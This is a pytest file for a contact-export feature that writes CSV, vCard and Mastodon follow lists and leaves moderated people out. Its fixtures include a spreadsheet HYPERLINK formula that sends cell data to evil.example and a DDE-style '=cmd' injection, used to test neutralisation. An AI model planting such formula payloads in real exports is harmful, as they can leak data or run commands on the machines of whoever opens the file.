"""roost people export: CSV, vCard 4.0 and Mastodon's follow import, each read back by an
independent reader (Python's csv, vobject and icalendar's content-line parser); nobody the
author blocked or forgot, or who opted out, in any of them; hostile names neutralised; and the
network-death drill's half: a network removed from the settings keeps its people in the exports.
(OPML and feed discovery: test_export_feeds.py.)"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import vobject

from roost.audience.directory import Someone, load_directory
from roost.audience.exports import FORMATS, MASTODON_HEADER, export_records, neutralised, render
from roost.model import Interaction, PostRecord
from roost.networks.feed_discovery import Feed
from roost.people import Person, person_fingerprint
from roost.store import Store

from conftest import run_roost
from sites import write_settings

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'
TRICKY = 'Zoë; "Z", back\\slash\nsecond line\x07 <b>&amp;</b>'
BOB = Person("mastodon:bob@birds.example", "mastodon", "Bob Martin", "@bob@birds.example",
             "https://birds.example/@bob")  # fmt: skip
BOB_SKY = Person("bluesky:did:plc:bobbob", "bluesky", "Bob", "@bob.example",
                 "https://bsky.app/profile/bob.example")  # fmt: skip
ANA = Person("webmention:ana.example", "webmention", "Ana Ribeiro", "ana.example",
             "https://ana.example/")  # fmt: skip
MALLORY = Person("mastodon:mallory@bad.example", "mastodon", EVIL, "@mallory@bad.example")
ZOE = Person("bluesky:did:plc:zoezoe", "bluesky", TRICKY, "@zoe.example")
PLUS = Person("mastodon:plus@odd.example", "mastodon", "+33 6 12 34", "@plus@odd.example")
# Refused, each a different way:
GONE = Person("mastodon:gone@forgot.example", "mastodon", "Gone Person", "@gone@forgot.example")
BLOCKED = Person("bluesky:did:plc:blockedone", "bluesky", "Blocked Person", "@blocked.example")
QUIET = Person("mastodon:quiet@nobot.example", "mastodon", "Quiet Person", "@quiet@nobot.example",
               opted_out=True)  # fmt: skip
DOMAIN = Person("webmention:spam.example", "webmention", "Spam Site", "spam.example",
                "https://spam.example/")  # fmt: skip
ME = Person("mastodon:me@birds.example", "mastodon", "The Author", "@me@birds.example",
            is_author=True)  # fmt: skip
EVERYONE = [BOB, BOB_SKY, ANA, MALLORY, ZOE, PLUS, GONE, BLOCKED, QUIET, DOMAIN, ME]
REFUSED = [GONE, BLOCKED, QUIET, DOMAIN, ME]


def records(root: Path, people=EVERYONE, merges=((BOB, BOB_SKY),)) -> Path:
    """A records folder with these people, one interaction each (Bob three, on two posts), the
    refused ones refused, and Bob's two accounts merged by the author."""
    social = root / "social"
    store = Store(social)
    with store.lock():
        for net in ("mastodon", "bluesky", "webmention"):
            store.write_people(net, {p.id: p for p in people if p.network == net})
        said = [
            Interaction(f"{p.network}:{i}", p.network, "reply", p.id, f"2026-05-{i + 1:02d}T10:00Z")
            for i, p in enumerate(people)
        ]
        if BOB in people:  # Bob comes back: the most engaged
            said.append(
                Interaction("bluesky:99", "bluesky", "like", BOB_SKY.id, "2026-06-01T10:00Z")
            )
            later = Interaction("mastodon:100", "mastodon", "like", BOB.id, "2026-06-02T10:00:00Z")
            store.write_post(PostRecord("two", interactions=[later]))
        store.write_post(PostRecord("one", interactions=said))
        mod = store.read_moderation()
        mod.forgotten.append(person_fingerprint(GONE.id))
        mod.blocked_accounts.append(BLOCKED.id)
        mod.blocked_domains.append("spam.example")
        store.write_moderation(mod)
    merged = [
        {"accounts": [a.id, b.id], "kind": "author", "urls": [], "checked": None,
         "made": "2026-06-01T00:00:00Z"}
        for a, b in merges
    ]  # fmt: skip
    (social / "identities.json").write_text(
        json.dumps({"format": 1, "merges": merged, "apart": []})
    )
    return social


def someone(name: str, *accounts: Person, websites=()) -> Someone:
    """A person as the directory gives them, built by hand: with text the records' own cleaning
    would have tidied (a hand-edited file can hold anything)."""
    return Someone(f"person:{abs(hash(name)) % 10**12:012d}", name, list(accounts),
                   list(websites), None, None, {}, set())  # fmt: skip


def people_of(tmp_path) -> list:
    return load_directory(records(tmp_path)).people


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# ----------------------------------------------------------------- CSV


def test_csv_is_one_row_per_person_with_every_handle(tmp_path):
    text, notes = render("csv", people_of(tmp_path))
    assert notes == []
    rows = csv_rows(text)
    assert list(rows[0]) == [
        "id", "name", "websites", "mastodon handle", "mastodon profile", "bluesky handle",
        "bluesky profile", "webmention handle", "webmention profile", "first", "last",
        "interactions", "posts",
    ]  # fmt: skip
    assert len(rows) == 5  # Bob (two accounts), Ana, Mallory, Zoë, Plus
    bob = rows[0]  # the most engaged first: two posts
    assert bob["name"] == "Bob Martin"
    assert bob["mastodon handle"] == "bob@birds.example"
    assert bob["mastodon profile"] == "https://birds.example/@bob"
    assert bob["bluesky handle"] == "bob.example"
    assert bob["bluesky profile"] == "https://bsky.app/profile/bob.example"
    assert (bob["first"], bob["last"]) == ("2026-05-01T10:00:00Z", "2026-06-02T10:00:00Z")
    assert (bob["interactions"], bob["posts"]) == ("4", "2")
    ana = next(r for r in rows if r["name"] == "Ana Ribeiro")
    assert ana["websites"] == "https://ana.example/"
    assert ana["mastodon handle"] == ana["bluesky handle"] == ""
    assert text.endswith("\r\n") and "\r\n" in text.splitlines(keepends=True)[0]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path):
    rows = csv_rows(render("csv", people_of(tmp_path))[0])
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {r["name"] for r in rows}
    assert "'" + EVIL in names  # shown as the text it is, nothing lost
    assert "'+33 6 12 34" in names
    assert neutralised("\uff1dSUM(A1)") == "'\uff1dSUM(A1)"  # full-width "=" too
    assert neutralised("Bob") == "Bob" and neutralised("") == ""
    raw = csv_rows(render("csv", [someone(TRICKY, ZOE), someone("-1", PLUS)])[0])
    assert raw[0]["name"] == 'Zoë; "Z", back\\slash\nsecond line <b>&amp;</b>'  # no \x07
    assert raw[1]["name"] == "'-1"


# ----------------------------------------------------------------- Mastodon's follow import


def test_mastodon_import_has_the_exact_header_and_every_mastodon_account(tmp_path):
    text, notes = render("mastodon", people_of(tmp_path))
    lines = text.splitlines()
    assert lines[0] == "Account address,Show boosts,Notify on new posts,Languages"
    assert list(csv.reader(io.StringIO(text)))[0] == MASTODON_HEADER
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["Account address"] for r in rows][0] == "bob@birds.example"  # most engaged first
    assert {r["Account address"] for r in rows} == {
        "bob@birds.example", "mallory@bad.example", "plus@odd.example"
    }  # fmt: skip
    assert all(r["Show boosts"] == "true" and r["Notify on new posts"] == "false" for r in rows)
    assert notes == []


def test_mastodon_import_leaves_out_a_handle_that_is_not_an_address(tmp_path):
    odd = Person("mastodon:=cmd|x@evil", "mastodon", "Odd", "@=cmd|' /C calc'!A0")
    text, notes = render("mastodon", load_directory(records(tmp_path, [BOB, odd], [])).people)
    assert text.splitlines()[1:] == ["bob@birds.example,true,false,"]
    assert notes == ["mastodon:=cmd|x@evil: no user@domain address in the records; left out"]


# ----------------------------------------------------------------- vCard


def cards(text: str) -> list:
    return list(vobject.readComponents(text))


def test_vcards_read_back_with_vobject(tmp_path):
    text, _ = render("vcard", people_of(tmp_path))
    found = cards(text)
    assert len(found) == 5
    assert all(c.version.value == "4.0" for c in found)
    bob = next(c for c in found if c.fn.value == "Bob Martin")
    urls = sorted(u.value for u in bob.contents["url"])
    assert urls == ["https://birds.example/@bob", "https://bsky.app/profile/bob.example"]
    labels = sorted(x.value for x in bob.contents["x-ablabel"])
    assert labels == ["Bluesky", "Mastodon"]
    profiles = {p.params["SERVICE-TYPE"][0]: p for p in bob.contents["socialprofile"]}
    assert profiles["Mastodon"].value == "https://birds.example/@bob"
    assert profiles["Mastodon"].params["USERNAME"] == ["bob@birds.example"]
    assert profiles["Bluesky"].value == "https://bsky.app/profile/bob.example"
    ana = next(c for c in found if c.fn.value == "Ana Ribeiro")
    assert [u.value for u in ana.contents["url"]] == ["https://ana.example/"]
    assert "socialprofile" not in ana.contents  # a website is a URL, not a social profile
    assert len({c.uid.value for c in found}) == 5
    again, _ = render("vcard", people_of(tmp_path / "again"))
    assert again == text  # the same UIDs next time: an import updates, never duplicates


def test_vcard_values_are_escaped_and_lines_folded(tmp_path):
    text, _ = render("vcard", [*people_of(tmp_path), someone(TRICKY, ZOE)])
    zoe = cards(text)[-1]
    assert zoe.fn.value == 'Zoë; "Z", back\\slash second line <b>&amp;</b>'  # one line
    assert 'FN:Zoë\\; "Z"\\, back\\\\slash second line <b>&amp\\;</b>\r\n' in text
    assert EVIL in [c.fn.value for c in cards(text)]
    physical = text.split("\r\n")
    assert physical[-1] == "" and "\n" not in "".join(physical)  # CRLF only
    assert all(len(line.encode()) <= 75 for line in physical)
    assert any(line.startswith(" ") for line in physical)  # long lines were folded


def test_vcards_read_back_with_a_second_reader(tmp_path):
    """icalendar's content-line parser (RFC 5545's lines are RFC 6350's): every property of
    every card, unfolded, unescaped and with its parameters, as vobject read them."""
    from icalendar.parser import Contentline

    text, _ = render("vcard", people_of(tmp_path))
    unfolded = text.replace("\r\n ", "").split("\r\n")[:-1]
    parsed = [Contentline(line).parts() for line in unfolded]
    assert [n for n, _, v in parsed if n == "BEGIN"] == ["BEGIN"] * 5
    names = [v for n, _, v in parsed if n == "FN"]
    assert "Bob Martin" in names
    profiles = [(p["SERVICE-TYPE"], v) for n, p, v in parsed if n == "SOCIALPROFILE"]
    assert ("Mastodon", "https://birds.example/@bob") in profiles


# ----------------------------------------------------------------- moderation, everywhere


@pytest.mark.parametrize("fmt", FORMATS)
def test_nobody_refused_is_in_any_export(tmp_path, fmt):
    social = records(tmp_path)
    feeds = {"https://spam.example/": [Feed("https://spam.example/feed.xml", "rss")],
             "https://ana.example/": [Feed("https://ana.example/feed.xml", "atom")]}  # fmt: skip
    text, _ = export_records(social, fmt, feeds)
    for who in REFUSED:
        rest = who.id.split(":", 1)[1]
        assert who.name not in text and rest not in text, (fmt, who.id)
    assert "spam.example" not in text
    if fmt in ("csv", "vcard"):
        assert "Bob Martin" in text and "Ana Ribeiro" in text
    if fmt == "opml":
        assert "https://ana.example/feed.xml" in text
    if fmt == "mastodon":
        assert "bob@birds.example" in text


# ----------------------------------------------------------------- the network-death drill


def test_a_network_removed_from_the_settings_keeps_its_people_in_the_exports(tmp_path):
    """The drill's half: Mastodon is gone from the settings (and its server with it); the
    exports, read from the records alone, still list Bob with both his handles."""
    records(tmp_path)
    (tmp_path / "content").mkdir()
    write_settings(tmp_path / "publishconf.py", ROOST_NETWORKS={"bluesky": {"handle": "me.test"}})
    text, _ = export_records(tmp_path / "social", "csv")
    bob = csv_rows(text)[0]
    assert bob["mastodon handle"] == "bob@birds.example"
    assert bob["bluesky handle"] == "bob.example"
    for fmt, expect in (("csv", "bob@birds.example"), ("vcard", "https://birds.example/@bob"),
                        ("mastodon", "bob@birds.example")):  # fmt: skip
        result = run_roost("people", "export", "--format", fmt, cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert expect in result.stdout and "bob.example" in result.stdout or fmt == "mastodon"
        assert "5 people exported" in result.stderr


def test_export_to_a_file_and_a_bad_place_is_one_line(tmp_path):
    records(tmp_path)
    (tmp_path / "content").mkdir()
    write_settings(tmp_path / "publishconf.py", SITEURL="https://blog.example")
    result = run_roost("people", "export", "--format", "vcard", "-o", "people.vcf", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    assert len(cards((tmp_path / "people.vcf").read_bytes().decode())) == 5
    bad = run_roost("people", "export", "--format", "csv", "-o", "no/such/dir/x.csv", cwd=tmp_path)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    assert bad.stderr.splitlines() == ["roost: -o no/such/dir/x.csv: the folder no/such/dir does "
                                       "not exist"]  # fmt: skip
    neither = run_roost("people", "export", cwd=tmp_path)
    assert neither.returncode == 2 and "--format" in neither.stderr
